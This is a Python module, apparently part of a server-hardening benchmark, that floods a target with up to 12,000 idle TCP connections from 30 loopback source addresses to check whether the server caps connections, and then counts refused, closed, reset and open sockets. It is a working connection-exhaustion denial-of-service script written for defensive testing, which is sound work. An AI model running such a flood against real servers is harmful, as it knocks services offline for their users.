"""12,000 idle connections from 30 addresses, with and without a previous request: more than a process accepts."""

from __future__ import annotations

import asyncio
import resource
import socket
from collections import Counter
from contextlib import suppress
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from bench.attacks import Target

CONNECTIONS, ADDRESSES = 12_000, 30
# Connections opened in a tenth of a second. A faster flood fills the kernel's accept queue, which the server cannot
# prevent.
AT_A_TIME = 120
# Each open connection takes some kilobytes.
MAX_GROWTH_MIB = 256
SECONDS = 15
REQUEST = b"GET /healthz HTTP/1.1\r\nHost: attacker\r\n\r\n"


async def attack(target: Target) -> str:
    """The numbers of connections opened, refused and still open."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    number = CONNECTIONS if most == resource.RLIM_INFINITY else min(CONNECTIONS, most - 500)
    connections: list[socket.socket] = []
    try:
        for index in range(number):
            if index % AT_A_TIME == 0:
                await asyncio.sleep(0.1)
            connection = await _connect(target, f"127.0.0.{3 + index % ADDRESSES}")
            if connection is not None:
                connections.append(connection)
        await asyncio.sleep(SECONDS)
        ends = Counter(map(_end, connections))
    finally:
        for connection in connections:
            connection.close()
    return f"{len(connections)} of {number} connected; after {SECONDS} s: " + ", ".join(
        f"{count} {end}" for end, count in ends.most_common()
    )


async def _connect(target: Target, source: str) -> socket.socket | None:
    connection = socket.socket()
    connection.setblocking(False)
    loop = asyncio.get_running_loop()
    try:
        if target.host == "127.0.0.1":
            connection.bind((source, 0))
        async with asyncio.timeout(5):
            await loop.sock_connect(connection, (target.host, target.port))
            if connection.fileno() % 2:
                await loop.sock_sendall(connection, REQUEST)
    except (OSError, TimeoutError):
        connection.close()
        return None
    return connection


def _end(connection: socket.socket) -> str:
    received = b""
    try:
        with suppress(BlockingIOError):
            while piece := connection.recv(65_536):
                received += piece
            return "refused" if b" 503 " in received or b" 429 " in received else "closed"
    except OSError:
        return "reset"
    return "open"
